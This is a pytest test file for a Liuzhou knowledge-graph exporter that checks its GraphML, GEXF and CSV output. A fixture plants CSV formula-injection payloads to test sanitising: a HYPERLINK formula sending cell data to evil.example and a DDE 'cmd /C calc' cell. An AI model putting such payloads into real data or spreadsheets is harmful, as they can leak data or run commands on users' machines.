"""`liuzhou-kg export`: GraphML and GEXF that networkx reads back, CSV lists of nodes and edges."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest

from liuzhou_kg.store.export import GRAPH_BASE, build_network, export
from liuzhou_kg.core.layout import Layout

REPO = Layout.default().repo

LZ = "https://w3id.org/liuzhou-kg/resource/"


@pytest.fixture(scope="module")
def store(built_dist):
    from liuzhou_kg.store.reader import open_store

    return open_store(built_dist / "store")  # the store folder's current generation


@pytest.fixture(scope="module")
def files(store, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("export")
    return {path.name: path for path in export(store, out)}


def expected_edges(store) -> set[tuple[str, str, str]]:
    """Distinct IRI→IRI triples (not rdf:type) outside the ontology, provenance and imports graphs."""
    rows = store.query("""
        SELECT DISTINCT ?s ?p ?o WHERE { GRAPH ?g { ?s ?p ?o }
          FILTER(isIRI(?s) && isIRI(?o) && ?p != rdf:type)
          FILTER(?g NOT IN (lzg:ontology, lzg:provenance, lzg:imports)) }""",
                       prefixes={"rdf": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
                                 "lzg": "https://w3id.org/liuzhou-kg/graph/"})
    return {(r["s"].value, r["p"].value, r["o"].value) for r in rows}


def test_network_has_every_relation_once(store):
    network = build_network(store).graph
    edges = {(s, key, o) for s, o, key in network.edges(keys=True)}
    assert edges == expected_edges(store)
    assert network.number_of_edges() == len(edges)
    liugong = network.nodes[LZ + "liugong"]
    assert liugong["label_zh"] == "柳工" and liugong["label_en"] == "LiuGong"
    assert "lzo:Enterprise" in liugong["type"]
    # each edge lists the graphs that state it
    graphs: dict[tuple[str, str, str], set[str]] = {}
    for row in store.query("SELECT ?s ?p ?o ?g WHERE { GRAPH ?g { ?s ?p ?o } FILTER(isIRI(?o)) }"):
        key = (row["s"].value, row["p"].value, row["o"].value)
        graphs.setdefault(key, set()).add(row["g"].value.replace("https://w3id.org/liuzhou-kg/graph/", "lzg:"))
    for s, o, key, data in network.edges(keys=True, data=True):
        assert set(data["graphs"].split()) == graphs[(s, key, o)]


def test_graphml_and_gexf_read_back(files, store):
    expected = build_network(store).graph
    graphml = nx.read_graphml(files["liuzhou.graphml"])
    gexf = nx.read_gexf(files["liuzhou.gexf"])
    for graph in (graphml, gexf):
        assert graph.number_of_nodes() == expected.number_of_nodes()
        assert graph.number_of_edges() == expected.number_of_edges()
    assert graphml.nodes[LZ + "liuzhou"]["label_zh"] == "柳州市"
    assert gexf.nodes[LZ + "liuzhou"]["label"] == "柳州市"


def test_csv_lists(files, store):
    expected = build_network(store).graph
    with files["liuzhou-nodes.csv"].open(encoding="utf-8", newline="") as handle:
        nodes = list(csv.DictReader(handle))
    with files["liuzhou-edges.csv"].open(encoding="utf-8", newline="") as handle:
        edges = list(csv.DictReader(handle))
    assert len(nodes) == expected.number_of_nodes() and len(edges) == expected.number_of_edges()
    ids = {row["id"] for row in nodes}
    assert all(row["source"] in ids and row["target"] in ids for row in edges)
    assert {"source": LZ + "liugong-machinery", "target": LZ + "liugong"}.items() <= next(
        row for row in edges if row["source"] == LZ + "liugong-machinery"
        and row["predicate"] == "org:subOrganizationOf").items()


def test_all_graphs_adds_the_ontology(store):
    assert build_network(store, all_graphs=True).edges > build_network(store).edges


def test_cli_export_under_c_locale(built_dist, tmp_path):
    env = {**os.environ, "LC_ALL": "C", "LANG": "C"}
    proc = subprocess.run([sys.executable, "-m", "liuzhou_kg.cli", "export", "--data",
                           str(built_dist / "liuzhou.trig"), "--format", "gexf", "--format", "csv",
                           "--out", str(tmp_path)], cwd=REPO, env=env, capture_output=True, text=True,
                          encoding="utf-8", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["liuzhou-edges.csv", "liuzhou-nodes.csv",
                                                          "liuzhou.gexf"]
    assert "柳州市" in (tmp_path / "liuzhou-nodes.csv").read_text(encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "liuzhou_kg.cli", "export", "--data",
                           str(tmp_path / "missing.trig"), "--out", str(tmp_path)], cwd=REPO, env=env,
                          capture_output=True, text=True, encoding="utf-8", timeout=120)
    assert proc.returncode == 2 and "missing.trig" in proc.stderr


def test_network_reads_every_graph_of_a_store_with_no_union_copy():
    """The store keeps nothing in its default graph; a dataset file may. Every graph is read, and
    a relation stated in several graphs is one edge listing them."""
    a, b, c, p = (ox.NamedNode(f"http://example.org/{n}") for n in ("a", "b", "c", "p"))
    g1, g2 = ox.NamedNode(GRAPH_BASE + "p01-s01"), ox.NamedNode(GRAPH_BASE + "p01-s02")
    store = ox.Store()
    store.extend([ox.Quad(a, p, b, g1), ox.Quad(a, p, b, g2), ox.Quad(b, p, c)])
    network = build_network(store).graph
    edges = {(s, key, o): data for s, o, key, data in network.edges(keys=True, data=True)}
    assert set(edges) == {(a.value, p.value, b.value), (b.value, p.value, c.value)}
    assert sorted(edges[(a.value, p.value, b.value)]["graphs"].split()) == ["lzg:p01-s01", "lzg:p01-s02"]
    assert network.number_of_edges() == 2


HOSTILE_LABELS = """@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix lz: <https://w3id.org/liuzhou-kg/resource/> .
lz:liugong skos:prefLabel "=HYPERLINK(\\"http://evil.example/?\\"&A2,\\"柳工\\")"@zh , "Evil Corp"@en ;
    <http://evil.example/rel> <http://evil.example/calc> .
<http://evil.example/calc> rdfs:label "+cmd|' /C calc'!A0" , "@SUM(1)"@en , "bell\\u0001\\u0008here"@zh .
<http://evil.example/tab> rdfs:label "\\tcell"@en , "-2+3"@zh .
lz:liugong <http://evil.example/rel> <http://evil.example/tab> .
"""


@pytest.fixture(scope="module")
def hostile_store(built_dist, tmp_path_factory):
    import shutil

    from liuzhou_kg.store.imports.rdf_file import import_rdf
    from liuzhou_kg.store.reader import open_store

    work = tmp_path_factory.mktemp("hostile")
    shutil.copytree(built_dist / "store", work / "store")
    data = work / "labels.ttl"
    data.write_text(HOSTILE_LABELS, encoding="utf-8")
    import_rdf(work / "store", data, license_iri="https://creativecommons.org/publicdomain/zero/1.0/",
               progress=False)
    return open_store(work / "store")


def test_an_import_does_not_rename_the_builds_entities(hostile_store):
    node = build_network(hostile_store).graph.nodes[LZ + "liugong"]
    assert (node["label"], node["label_zh"], node["label_en"]) == ("柳工", "柳工", "LiuGong")


def test_csv_cells_a_spreadsheet_would_run_are_text(hostile_store, tmp_path):
    files = {p.name: p for p in export(hostile_store, tmp_path, ("csv",))}
    with files["liuzhou-nodes.csv"].open(encoding="utf-8", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    calc, tab = rows["http://evil.example/calc"], rows["http://evil.example/tab"]
    assert calc["label_en"] == "'@SUM(1)"
    assert tab["label_en"] == "'\tcell" and tab["label_zh"] == "'-2+3"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[LZ + "liuzhou"]["label"] == "柳州市"  # ordinary cells untouched


def test_graphml_and_gexf_are_well_formed_for_any_label(hostile_store, tmp_path):
    import xml.etree.ElementTree as ET

    files = {p.name: p for p in export(hostile_store, tmp_path, ("graphml", "gexf"))}
    for name in ("liuzhou.graphml", "liuzhou.gexf"):
        ET.parse(files[name])  # raises on a character XML forbids
        text = files[name].read_text(encoding="utf-8")
        assert "bell\ufffd\ufffdhere" in text and "\x01" not in text and "&#1;" not in text
    assert nx.read_graphml(files["liuzhou.graphml"]).nodes["http://evil.example/calc"]["label_zh"] \
        == "bell\ufffd\ufffdhere"
